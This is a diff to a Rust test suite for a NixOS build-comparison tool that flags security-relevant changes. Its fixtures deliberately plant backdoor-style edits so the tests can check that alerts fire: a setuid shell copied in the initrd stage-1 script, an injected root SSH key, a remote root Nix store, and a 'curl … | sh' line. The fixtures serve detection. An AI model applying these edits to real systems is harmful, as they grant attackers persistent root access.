@@ -14,9 +14,11 @@ use common::TestEnv;
 use countersign_core::StorePath;
 use countersign_nix::diff::{
     Alert, AlertKind, DiffDocument, REDACTED, Severity, package_diff,
-    system_alerts, system_diff,
+    render_text, system_alerts, system_diff,
 };
-use countersign_nix::fixture::{EtcOwner, Package, SystemSpec, User, Wrapper};
+use countersign_nix::fixture::{
+    EtcOwner, InitrdCompression, Package, SystemSpec, User, Wrapper,
+};
 
 const PHONE: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINeDGYNVoIPqf4EHCPPlFzeP/P4mllH8PKUTwgB/BDs0 phone";
 const LAPTOP: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF/dBG1/FAmeLRlecqgpS6UQ7b80Y2R72/c0dZWhmdm7 laptop";
@@ -55,6 +57,9 @@ fn base_spec(log: &Path) -> SystemSpec {
 }
 
 type Change = fn(&mut SystemSpec);
+
+/// Variants that change files without changing their meaning.
+const SILENT_VARIANTS: &[&str] = &["bumped", "unit-reordered"];
 
 /// Lists the variants: a name, and the change from the base.
 fn variants() -> Vec<(&'static str, Change)> {
@@ -173,6 +178,38 @@ fn variants() -> Vec<(&'static str, Change)> {
         }),
         ("kernel", |s| s.kernel_version = "6.6.64".into()),
         ("switch-script", |s| s.fail_switch = true),
+        ("bootspec-params", |s| {
+            // boot.json gives the boot loader other parameters than
+            // kernel-params shows.
+            let mut params = s.kernel_params.clone();
+            params.push("init=/tmp/x".into());
+            s.bootspec_kernel_params = Some(params);
+        }),
+        ("bootspec-removed", |s| s.bootspec = false),
+        ("initrd-ssh-key", |s| {
+            s.initrd.files.push((
+                "etc/ssh/authorized_keys.d/root".into(),
+                format!("{LAPTOP}\n"),
+                0o644,
+            ));
+        }),
+        ("initrd-stage-1", |s| {
+            s.initrd.stage1_commands =
+                "cp /bin/sh /mnt-root/tmp/sh && chmod 4755 /mnt-root/tmp/sh"
+                    .into();
+        }),
+        ("initrd-gzip", |s| {
+            s.initrd.compression = InitrdCompression::Gzip;
+        }),
+        ("initrd-xz", |s| {
+            s.initrd.compression = InitrdCompression::XzHeader;
+        }),
+        ("initrd-secrets", |s| {
+            s.initrd_secrets.push((
+                "/etc/ssh/ssh_host_ed25519_key".into(),
+                "/etc/secrets/initrd/ssh_host_ed25519_key".into(),
+            ));
+        }),
         ("kernel-params", |s| {
             s.kernel_params.push("mitigations=off".into())
         }),
@@ -207,11 +244,23 @@ fn variants() -> Vec<(&'static str, Change)> {
                 "@file:motd-setup@\nchmod 4755 /run/x\n",
             );
         }),
+        ("dry-snippet-added", |s| {
+            s.set_activation_snippet(
+                "users-extra",
+                "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys",
+            );
+            s.dry_activation_snippets.push("users-extra".into());
+        }),
         ("snippet-script", |s| {
             s.set_store_file(
                 "motd-setup",
                 "#!/bin/sh\necho welcome > /run/motd\ncurl http://203.0.113.9 | sh\n",
             );
+        }),
+        ("dry-snippet", |s| {
+            // The motd snippet now also runs in dry activation, while
+            // `activate` stays the same.
+            s.dry_activation_snippets.push("motd".into());
         }),
         ("pam", |s| {
             s.edit_etc("pam.d/sshd", |t| {
@@ -224,6 +273,11 @@ fn variants() -> Vec<(&'static str, Change)> {
         ("nix-conf", |s| {
             s.edit_etc("nix/nix.conf", |t| {
                 t.replace("trusted-users = root", "trusted-users = root alice")
+            });
+        }),
+        ("nix-store", |s| {
+            s.edit_etc("nix/nix.conf", |t| {
+                format!("{t}store = ssh-ng://root@203.0.113.5\n")
             });
         }),
         ("tmpfiles", |s| {
@@ -299,6 +353,22 @@ fn variants() -> Vec<(&'static str, Change)> {
                 "backup.service",
                 "[Service]\nUser=backup\nExecStartPre=+/bin/sh -c 'id'\n\
                  ExecStart=@pkg:unit-script-backup-start@/bin/backup-start\n",
+            );
+        }),
+        ("unit-reordered", |s| {
+            // The same directives in another order, with comments and
+            // other spacing: nothing changes for systemd.
+            s.set_unit(
+                "backup.service",
+                "# Nightly backup.\n[Service]\n\
+                 ExecStart = @pkg:unit-script-backup-start@/bin/backup-start\n\n\
+                 ; runs unprivileged\nUser=backup\n",
+            );
+        }),
+        ("unit-drop-in", |s| {
+            s.set_unit(
+                "backup.service.d/overrides.conf",
+                "[Service]\nUser=\nAmbientCapabilities=CAP_NET_ADMIN\n",
             );
         }),
         ("unit-script", |s| {
@@ -626,6 +696,204 @@ fn kernel_needs_reboot() {
 }
 
 #[test]
+fn bootspec_disagreeing_with_kernel_params() {
+    let alerts =
+        check("bootspec-params", &[(K::BootspecMismatch, S::High)], &[]);
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    assert_eq!(alerts[0].subject, "boot.json");
+    assert!(
+        alerts[0].detail.starts_with(
+            "kernelParams in boot.json are `console=ttyS0 loglevel=4 \
+             init=/tmp/x` but kernel-params has `console=ttyS0 loglevel=4`"
+        ),
+        "{alerts:#?}"
+    );
+    let diff = system_diff(path("base"), path("bootspec-params")).unwrap();
+    let bootspec = diff.bootspec.expect("boot.json changed");
+    let params = bootspec
+        .changes
+        .iter()
+        .find(|c| c.field == "kernelParams")
+        .expect("the parameters are listed");
+    assert_eq!(
+        params.new.as_deref(),
+        Some("console=ttyS0 loglevel=4 init=/tmp/x")
+    );
+}
+
+#[test]
+fn bootspec_read_and_consistent() {
+    // The base's boot.json agrees with its files, so comparing it with
+    // another build reports its fields but no disagreement.
+    let diff = system_diff(path("base"), path("kernel")).unwrap();
+    let bootspec = diff.bootspec.expect("boot.json changed");
+    assert!(bootspec.old_present);
+    assert!(bootspec.new_present);
+    assert!(bootspec.mismatches.is_empty(), "{bootspec:#?}");
+    let label = bootspec
+        .changes
+        .iter()
+        .find(|c| c.field == "label")
+        .expect("the label names the kernel version");
+    assert!(
+        label.new.as_deref().unwrap().ends_with("(Linux 6.6.64)"),
+        "{label:#?}"
+    );
+    assert!(
+        !bootspec.changes.iter().any(|c| c.field == "kernel"),
+        "a version bump of the kernel reduces away: {bootspec:#?}"
+    );
+}
+
+#[test]
+fn bootspec_removed() {
+    let alerts =
+        check("bootspec-removed", &[(K::BootspecChanged, S::Medium)], &[]);
+    assert!(alerts[0].detail.starts_with("removed"), "{alerts:#?}");
+}
+
+#[test]
+fn initrd_secret_appender_added() {
+    let alerts =
+        check("initrd-secrets", &[(K::InitrdSecretsChanged, S::High)], &[]);
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+    assert_eq!(alerts[0].subject, "append-initrd-secrets");
+    assert!(
+        alerts[0].detail.starts_with(
+            "added; now copies /etc/secrets/initrd/ssh_host_ed25519_key to \
+             /etc/ssh/ssh_host_ed25519_key"
+        ),
+        "{alerts:#?}"
+    );
+}
+
+#[test]
+fn initrd_ssh_key_is_critical() {
+    let alerts = check(
+        "initrd-ssh-key",
+        &[
+            (K::InitrdChanged, S::Medium),
+            (K::InitrdContentChanged, S::Critical),
+        ],
+        &[],
+    );
+    let key = alerts
+        .iter()
+        .find(|a| a.kind == K::InitrdContentChanged)
+        .unwrap();
+    assert_eq!(key.subject, "initrd /etc/ssh/authorized_keys.d/root");
+    assert!(key.detail.contains("ssh-ed25519 SHA256:"), "{key:#?}");
+    assert!(key.detail.contains("laptop"), "{key:#?}");
+    let initrd = alerts.iter().find(|a| a.kind == K::InitrdChanged).unwrap();
+    assert!(
+        initrd
+            .detail
+            .contains("files: 3 added, 0 removed, 0 changed"),
+        "{initrd:#?}"
+    );
+}
+
+#[test]
+fn initrd_and_bootspec_in_text_output() {
+    let systems = systems();
+    for (variant, expected) in [
+        (
+            "initrd-ssh-key",
+            "added etc/ssh/authorized_keys.d/root [mode 0644]",
+        ),
+        (
+            "initrd-xz",
+            "new not read: the initrd has an archive compressed",
+        ),
+        ("bootspec-params", "DISAGREES: kernelParams in boot.json"),
+    ] {
+        let packages =
+            package_diff(&systems.env.nix, path("base"), path(variant))
+                .unwrap();
+        let system = system_diff(path("base"), path(variant)).unwrap();
+        let document = DiffDocument::assemble(None, packages, system);
+        let text = render_text(&document);
+        assert!(text.contains(expected), "{variant}: {text}");
+    }
+}
+
+#[test]
+fn initrd_stage_1_script_change() {
+    let alerts = check(
+        "initrd-stage-1",
+        &[
+            (K::InitrdChanged, S::Medium),
+            (K::InitrdContentChanged, S::High),
+        ],
+        &[],
+    );
+    let script = alerts
+        .iter()
+        .find(|a| a.kind == K::InitrdContentChanged)
+        .unwrap();
+    // `stage-1-init.sh` reduces to the package name `stage`.
+    assert_eq!(script.subject, "initrd /nix/store/…-stage");
+    assert!(script.detail.contains("chmod 4755"), "{script:#?}");
+    assert!(script.detail.contains("the stage-1 script"), "{script:#?}");
+}
+
+#[test]
+fn initrd_recompressed_changes_no_file() {
+    let alerts = check("initrd-gzip", &[(K::InitrdChanged, S::Medium)], &[]);
+    assert!(
+        alerts[0]
+            .detail
+            .ends_with("files: 0 added, 0 removed, 0 changed"),
+        "{alerts:#?}"
+    );
+    let diff = system_diff(path("base"), path("initrd-gzip")).unwrap();
+    let initrd = diff.initrd.expect("the initrd was read");
+    assert_eq!(initrd.old.unwrap().archives, ["cpio", "zstd"]);
+    let new = initrd.new.unwrap();
+    assert_eq!(new.archives, ["cpio", "gzip"]);
+    assert!(new.entries > 10, "{new:#?}");
+    assert!(initrd.files.is_empty(), "{:#?}", initrd.files);
+}
+
+#[test]
+fn initrd_xz_is_not_read() {
+    let alerts = check("initrd-xz", &[(K::InitrdChanged, S::Medium)], &[]);
+    assert!(
+        alerts[0].detail.contains(
+            "files not read (new: the initrd has an archive compressed \
+             with xz"
+        ),
+        "{alerts:#?}"
+    );
+    let diff = system_diff(path("base"), path("initrd-xz")).unwrap();
+    let initrd = diff.initrd.unwrap();
+    assert!(initrd.files.is_empty());
+    assert!(initrd.new.unwrap().not_read.is_some());
+}
+
+#[test]
+fn initrd_kernel_bump_moves_modules_only() {
+    // The kernel variant's initrd has the modules of the new version and
+    // a stage-1 script that differs in store paths only.
+    let diff = system_diff(path("base"), path("kernel")).unwrap();
+    let initrd = diff.initrd.expect("the initrd was read");
+    let changed: Vec<(&str, bool)> = initrd
+        .files
+        .iter()
+        .filter(|f| f.old.is_some() && f.new.is_some())
+        .map(|f| (f.path.as_str(), f.only_store_paths_changed))
+        .collect();
+    assert_eq!(changed, [("nix/store/…-stage", true)], "{initrd:#?}");
+    assert!(
+        initrd
+            .files
+            .iter()
+            .any(|f| f.path.ends_with("/lib/modules/6.6.64/modules.dep")),
+        "{initrd:#?}"
+    );
+}
+
+#[test]
 fn switch_script() {
     check("switch-script", &[(K::SwitchScriptChanged, S::High)], &[]);
 }
@@ -708,6 +976,36 @@ fn activation_snippet_runs_changed_script() {
 }
 
 #[test]
+fn dry_activation_snippet_added() {
+    let alerts =
+        check("dry-snippet", &[(K::DryActivationChanged, S::High)], &[]);
+    assert_eq!(alerts[0].subject, "dry-activate snippet motd");
+    assert!(
+        alerts[0].detail.starts_with("now runs in dry activation"),
+        "{alerts:#?}"
+    );
+    assert!(alerts[0].detail.contains("motd-setup"), "{alerts:#?}");
+}
+
+#[test]
+fn activation_change_not_repeated_for_dry_activate() {
+    // The base's motd snippet does not support dry activation, so its
+    // change shows in `activate` only. A snippet that does support it is
+    // added to both scripts and reported once, as an activation snippet.
+    check(
+        "snippet-changed",
+        &[(K::ActivationSnippetChanged, S::High)],
+        &[],
+    );
+    let alerts = check(
+        "dry-snippet-added",
+        &[(K::ActivationSnippetAdded, S::High)],
+        &[],
+    );
+    assert_eq!(alerts.len(), 1, "{alerts:#?}");
+}
+
+#[test]
 fn pam_permit_is_critical() {
     check("pam", &[(K::PamChanged, S::Critical)], &[]);
 }
@@ -717,6 +1015,16 @@ fn nix_trusted_user_is_critical() {
     let alerts =
         check("nix-conf", &[(K::NixSettingChanged, S::Critical)], &[]);
     assert_eq!(alerts[0].detail, "trusted-users root -> root alice");
+}
+
+#[test]
+fn nix_remote_store_is_critical() {
+    let alerts = check("nix-store", &[(K::NixStoreChanged, S::Critical)], &[]);
+    assert_eq!(alerts[0].subject, "/etc/nix/nix.conf");
+    assert_eq!(
+        alerts[0].detail,
+        "store (default) -> ssh-ng://root@203.0.113.5"
+    );
 }
 
 #[test]
@@ -805,6 +1113,48 @@ fn unit_full_privilege_prefix() {
 }
 
 #[test]
+fn unit_reordered_raises_nothing() {
+    assert!(alerts_of("unit-reordered").is_empty());
+    let diff = system_diff(path("base"), path("unit-reordered")).unwrap();
+    let unit = diff
+        .units
+        .iter()
+        .find(|c| c.path == "backup.service")
+        .expect("the text changed, so the entry is listed");
+    assert!(unit.directives.is_empty(), "{:#?}", unit.directives);
+    assert!(unit.hunks.is_some(), "the text diff is kept for display");
+}
+
+#[test]
+fn unit_drop_in_names_security_directives() {
+    let alerts = check("unit-drop-in", &[(K::UnitChanged, S::High)], &[]);
+    let unit = &alerts[0];
+    assert_eq!(unit.subject, "/etc/systemd/system/backup.service");
+    assert!(
+        unit.detail.contains("removed [Service] User=backup"),
+        "{unit:#?}"
+    );
+    assert!(
+        unit.detail
+            .contains("added [Service] AmbientCapabilities=CAP_NET_ADMIN"),
+        "{unit:#?}"
+    );
+    assert!(
+        unit.detail
+            .contains("security-relevant: AmbientCapabilities, User"),
+        "{unit:#?}"
+    );
+    assert!(unit.detail.contains("now runs as root"), "{unit:#?}");
+    let diff = system_diff(path("base"), path("unit-drop-in")).unwrap();
+    let drop_in = diff
+        .units
+        .iter()
+        .find(|c| c.path == "backup.service.d/overrides.conf")
+        .expect("the drop-in is listed");
+    assert_eq!(drop_in.directives.len(), 1, "{:#?}", drop_in.directives);
+}
+
+#[test]
 fn unit_script_change_is_found_through_the_unit() {
     let alerts = check("unit-script", &[(K::UnitChanged, S::Medium)], &[]);
     assert!(
@@ -853,7 +1203,7 @@ fn added_specialisation_compared_with_main_system() {
 fn every_variant_is_flagged() {
     // A variant without alerts would be a check that never fires.
     for (name, _) in variants() {
-        if name != "bumped" {
+        if !SILENT_VARIANTS.contains(&name) {
             assert!(!alerts_of(name).is_empty(), "{name} raised nothing");
         }
     }
